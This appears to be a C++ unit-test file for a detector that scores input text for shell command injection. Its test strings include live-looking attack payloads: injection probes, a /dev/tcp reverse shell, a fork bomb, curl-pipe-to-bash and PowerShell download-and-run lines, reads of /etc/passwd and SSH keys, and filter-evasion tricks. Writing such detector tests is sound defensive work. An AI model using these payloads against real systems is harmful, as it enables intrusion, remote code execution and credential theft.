#include "inspect/shell/shell.h"

#include <gtest/gtest.h>

#include <string_view>

namespace onesec::inspect {
namespace {

std::uint32_t points(std::string_view text) {
  Reasons out;
  inspect_shell(text, ascii::Alphabet(text), out);
  return out.points(Attack::Shell);
}

TEST(Shell, CommandAfterASeparatorWithArgumentsThatFit) {
  for (const std::string_view text :
       {"7; wget http://host.example/a", "7 | tail -n 3 /etc/group", "7 && ping -c 4 10.1.2.3", "x' ; ls -la /srv ; '",
        "x\" | netstat -an", "a$(uname -a)"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}
TEST(Shell, WordsThatAreAlsoUtilitiesInProse) {
  for (const std::string_view text :
       {"milk; more bread", "who is the cat; find the cat", "red | sort | date", "cat", "top 10; last minute offers",
        "Q&A; make a date", "find the date of birth", "cats & dogs; at home", "| cat | dog |", "$(GREP) -e x",
        "a shared `curl.exe`, as said", "(?:a|\\w|b)+"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, NamesHiddenFromFilters) {
  for (const std::string_view text :
       {"1;c'a't /etc/group", "1;un\\ame -a", "1;cat$IFS/etc/group", "1;{tac,/etc/group}", "1;/b?n/ta?l /etc/group"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}
TEST(Shell, ReverseShellsAndShellshock) {
  EXPECT_GE(points("() { x; }; echo hi"), kThreshold);
  EXPECT_LT(points("function () { return 1; }"), kThreshold);
  EXPECT_GE(points("bash -i >& /dev/tcp/10.1.2.3/99 0>&1"), kThreshold);
  EXPECT_GE(points("python3 -c 'import socket'"), kThreshold);
  EXPECT_LT(points("python3 is a language; bash is a shell"), kThreshold);
}
TEST(Shell, WindowsShells) {
  EXPECT_GE(points("x & dir c:\\"), kThreshold);
  EXPECT_GE(points("%COMSPEC% /c ver"), kThreshold);
  EXPECT_GE(points("for /d %q in (a) do ver"), kThreshold);
  EXPECT_LT(points("for 5 % in (or near) town"), kThreshold);
  EXPECT_LT(points("100% of it; 50% off"), kThreshold);
  EXPECT_GE(points("Get-Content C:\\boot.txt"), kThreshold);
  EXPECT_GE(points("Invoke-WebRequest http://host.example/a.ps1"), kThreshold);
  EXPECT_GE(points("Set-Item -Path x"), kThreshold);
  EXPECT_LT(points("Get-together on Sunday - bring cake"), kThreshold);
  EXPECT_LT(points("New-Zealand http"), kThreshold);
  EXPECT_LT(points("&copy; 2024 Host &reg; co"), kThreshold);
  EXPECT_GE(points("x & copy c:\\a c:\\b"), kThreshold);
}
TEST(Shell, QuotesAndBracketsOfADocumentAreNoShells) {
  for (const std::string_view text :
       {R"(["\tar",1])", R"([[["q","[\"cat food & more\"]",null]]])", R"(["sort by price","date of birth"])",
        R"([{"u":"https://host.example/l?a=[1]&h=A","n":1.5e3}])", R"({"who":["AT&T"],"x":{}})"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {R"(["7;id"])", R"({"a":"[;id;]","b":"7;id"})", R"({"file":"a.png && wget http://192.0.2.1/a"})",
        R"({"a":1};id)", R"({"tac","/etc/group"})", R"(["a"]|id)", R"({"a":"`id`"})", R"([1,$(id),"a"])",
        R"({"cmd":"c'a't /etc/group;"} ; c'a't /etc/group)"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}
TEST(Shell, ParametersOfTypesAndProductsAreNoCommands) {
  for (const std::string_view text : {"data:image/gif;base64", "audio/ogg;base64", "mailer/2.4;nodejs",
                                      "client/1.0;ruby", "text/csv; file=x", "/find?a=data:font/woff;base64"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
  for (const std::string_view text : {"a/1;id", "mailer/2.4;whoami", "images/1;nodejs -e 1", "image/gif;id -u",
                                      "1/2;uname", "image/gif;curl http://192.0.2.1/"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}
TEST(Shell, CodeThatATextQuotes) {
  for (const std::string_view text :
       {"Please run `docker run -v $(pwd):/srv image` before you ask the people here again",
        "To see the accounts try `tac /etc/group | cut -d: -f1` and tell us what it prints",
        "This is how we install it on our own machines:\n```\ncurl -s http://192.0.2.1/i | bash\n```\nand that is "
        "all"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"`tac /etc/group | cut -d: -f1`", "name `curl -s http://192.0.2.1/i | bash`", "a `tac /etc/group`; b",
        "Please run docker now before you ask the people; tac /etc/group | cut -d: -f1 `", "x$(tac /etc/group)",
        "We like it here and so do all of our `friends`; curl -s http://192.0.2.1/i | bash"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}
TEST(Shell, PowerShellBehindASeparator) {
  for (const std::string_view text : {";Start-Sleep -s 9", "x;Get-Process", "7 | Start-Sleep 4", "$(Get-ChildItem)",
                                      "|iex", "a;iex whoami", ";gc C:\\boot.txt", ";&('ver'+'ify')", ";.(gcm ver*)",
                                      "7;[System.IO.File]::ReadAllText('x')", ";Add-MpPreference -ExclusionPath x"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"Check-In;Add-Ons;Set-Top boxes", "sign-in | Start-up 2 go", "who;gc for us", "a && ('b' + c)", "A::B; [x]::y",
        "we looked at it; Get-Process prints them", "pages;Read-Only mode", "f(x) & (y)",
        "| Get-Process | lists them |\n| netsh wlan | asks |"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, CommandsOfWindowsWithVerbsOfTheirOwn) {
  for (const std::string_view text :
       {"& net user anna Secret1 /add", "x&net localgroup users|", "7 & netsh wlan show profiles",
        "& wmic bios get name", "& calc.exe", "|reg query HKLM\\Software", "& route print",
        "&c:\\windows\\system32\\cmd.exe /c set", "& driverquery", "& pushd \\\\192.0.2.1\\a", "& cacls d:\\"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"revenue & net user growth", "bus & route planner", "net start", "fish; net use of chips", "x & move a b",
        "reg & query", "We sell; route printing too", "a.exe;b.exe"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, ProgramsGivenToInterpretersAndQuotesLeft) {
  for (const std::string_view text :
       {"powershell -c \"iex(iwr http://192.0.2.1/a)\"", ";find /srv -name a -exec id \\;", "a & sleep 7\""}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"| id | name |", "a & sleep 7 hours", "a find -exec id", "\"exec\" OR \"T'ai Chi\" -exec"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, OptionsThatRunOrWrite) {
  for (const std::string_view text :
       {"--upload-pack=ls", " --to-command=sh", "-oProxyCommand=ls", "ext::bash -c ls% >&2", "--output=/srv/www/a.php",
        "a@host.example -oQ/tmp -X/srv/www/a.php", "-d+allow_url_include=1 -d auto_prepend_file=php://input",
        "--use-compress-program=ls", "${run{/bin/ls}}"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"-o", "-e", "--exec", "--output=a.txt", "git has --upload-pack=x as an option", "ext::Widget", "-X/+Y", "-d 5",
        "-da allow_url_include", "--verbose=2", "- ext::sh -c", "${runs}"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, FilesAndGuardedCommands) {
  for (const std::string_view text :
       {";/tmp/a1", "| ./run.sh", "&~/x -v", ";[ 2 = 2 ]&&sleep 7", "[ -f /a ] || ls", "${IFS}id", "$IFS;id",
        ";stdbuf -o0 id", ";strace -f id", "7\x1apwd", "'\x1atac /etc/group;"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text : {"a;/tmp/a1", "/usr/lib;/tmp", ";/srv/a", ";./", "[ x ] && y", "[ ] cat food",
                                      "${IFS}", "[ 1 ]&&sleeps", "$IFS identity"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, ShortProbes) {
  for (const std::string_view text :
       {"x;whoami;", "10|id", "$(id)", "-;id", "x&&id", "||id", "x\ncurl http://192.0.2.9/x", ";{ id;}",
        ";case x in *)id;;esac", ";f(){ id;};f", ";>/tmp/y id", ";if :;then id;fi", ";a=id;$a", ";$(printf id)",
        ";exec id", "';id;'", "1;ps aux"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"name;id;size", "ids|user|size", "python;docker;kubectl", "AT&T; free", "| id | name |", "use `id` to see",
        "name|date", "``sort''", "; if it is not given, then", "data:image/png;base64,QUJD", "$(NAME)",
        "(true|false)"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, ConditionsOfCmdAndAliases) {
  for (const std::string_view text :
       {"if exist c:\\a.txt echo b", "if /i not a==b (exit 1)", "if %errorlevel% neq 0 goto end", "alias a=id"})
    EXPECT_GE(points(text), kThreshold) << text;
  for (const std::string_view text :
       {"if it is not there, say so", "if not defined otherwise", "an alias a = b", "if a is equal to b"})
    EXPECT_LT(points(text), kThreshold) << text;
}
TEST(Shell, UnfinishedQuotesAndVariablesEnd) {
  for (const std::string_view text : {"${abc", "${abc:x}", "\"$(", "`", "'", "$((", "\"`\"`", "{a,", "$'\\x"})
    points(text);
  EXPECT_LT(points("${abc}"), kThreshold);
}
TEST(Shell, CommandsThatOnlyShowThatOneRuns) {
  for (const std::string_view text :
       {";echo hello", "| echo hello there |", "$(expr 12 + 34)", "1;printf x", "a;ps aux", "|| ps aux ||",
        "; reg query HKLM", ";w`x`hoami", "10|who$(echo am)i"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text : {"stop; echo off the walls of it", "the echo; ps he left",
                                      "Use `a | sort` or `b > c`", "`a`; `b` & `c`", "a `b` c", "x`y"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, QuotedAndFilledNamesInCommandPosition) {
  for (const std::string_view text :
       {"10\n'id'", "x'|'ifconfig'||'", "\"\n\"echo\" x>/tmp/x #", "a.png&&e$@nv#", "1;i\"\"d", "1\n/b?n/p? aux",
        "anna||env ;", "1;ifcon${x}fig", "- \n <~/.ssh/id_rsa cat"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"stop; 'cat' is a word", "the dog; \"find\" it", "a; x''y", "set; it's 'env' here"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Shell, NamesWithClassesOfSigns) {
  for (const std::string_view text :
       {"x;[u]name -a", "cat /[?]tc/pa[?]swd", "/bi[n]/bash", "/usr/[a-z]in/bash", "a;/usr/bin/id", "1|/bin/ls"})
    EXPECT_GE(points(text), kThreshold) << text;
  for (const std::string_view text : {"/users/[id]/edit", "ls *.log", "see [a]list of it", "a list[0]; b[1] more",
                                      "the /usr/bin/id and /bin/ls programs", "cat [and] dog"})
    EXPECT_LT(points(text), kThreshold) << text;
}
TEST(Shell, AShellByItsVariable) {
  EXPECT_GE(points("$SHELL -c \"echo a\""), kThreshold);
  EXPECT_GE(points("${0} -c id"), kThreshold);
  EXPECT_LT(points("set $SHELL to what you like -c"), kThreshold);
}
TEST(Shell, ConditionsOfCmdWithoutSigns) {
  EXPECT_GE(points("IF   EXIST a.txt   CMD"), kThreshold);
  EXPECT_GE(points("if \"%1\"==\"/?\" x"), kThreshold);
  EXPECT_LT(points("if exist is a verb here"), kThreshold);
  EXPECT_LT(points("if 50%1 == more"), kThreshold);
}

TEST(Shell, WhatAShellReadsOverAndWhatItAsksFor) {
  for (const std::string_view text :
       {"x|$u wget http://h.example", "nohup ifconfig\n", "a;exec $(which python || which python3) -", "~+", "~-2/a"})
    EXPECT_GE(points(text), kThreshold) << text;
  for (const std::string_view text :
       {"nohup is a command\n", "~5", "~-ish", "~", "~-5", "I used $(which python) in my script", "about ~-2",
        "pays |$5 more", "cjj4ja|2|fc7|0|1700"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Shell, OtherWaysToRunSomething) {
  for (const std::string_view text :
       {":(){ :|:& };:", ";f(){ f|f& };f", ";. /tmp/x", ";sudo -u www id", "& waitfor /t 5 x", "$(telnetd -p 23)",
        "name =a b c d e >$(ping 192.0.2.7)", "-TvTT=id>x"})
    EXPECT_GE(points(text), kThreshold) << text;
  for (const std::string_view text : {"f(){ return a|b }", "see . /tmp/x", "sudo -u is an option", "wait for it"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Shell, NamesMethodsAndComparisonsAreNoCommands) {
  for (const std::string_view text :
       {";AT&T Prepaid SIM + $50", "a<-10;date>=2026-01-01;text~\"AT&T\"", "GET /api/items?filter=two%20dots",
        "5* & more", "2|ab", "The&#32;Cat&#32;in&#32;the&#32;Hat", "C&#58;&#92;Users&#92;Anna",
        "> see /etc/fstab for it", "| whoami | who |", "it costs $((a lot))", "[[File:{{{image}}}|{{{size|200px}}}]]",
        "use find -exec with care;"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
  for (const std::string_view text :
       {"5 & ls", "2|ab -n 1 http://192.0.2.9/", "x;GET http://192.0.2.9/x|sh", ";date>/tmp/x"})
    EXPECT_GE(points(text), kThreshold) << text;
}

TEST(Shell, OtherSignsThatSomethingIsRun) {
  for (const std::string_view text :
       {"a;id", "a|id", "&call whoami", "| whoami |", "|calc", "&forfiles /p c:\\windows /c calc.exe",
        ";. /etc/profile", ";vdir /etc", ";usleep 5000000", "-exec id ;", ". -exec id {} ;",
        "a --checkpoint=1 --checkpoint-action=exec=sh x", "-OQueueDirectory=/tmp -X../x.php",
        "`echo a$((71+25))$(echo a)a`", "> /tmp/x", "</etc/passwd", "a;/usr/bin/id|"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}

TEST(Shell, NothingHidesBehindWhatIsNoCommand) {
  for (const std::string_view text :
       {";wget>=a http://192.0.2.9/x.sh -O x", "127.0.0.1|nc>=a -lp 99", ";cat>=a app.conf", "127.0.0.1|DIR&X",
        ";date>=2026-01-01 -s x;id -u", "x;GET http://192.0.2.9/x|sh"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const std::string_view text : {"echo $((2*3)) prints 6", "docs; calc sheet", "a & calc",
                                      "of tar:\n--checkpoint-action=ACTION what is done", "id>=5;size<=7"})
    EXPECT_LT(points(text), kThreshold) << text;
}

}  // namespace
}  // namespace onesec::inspect
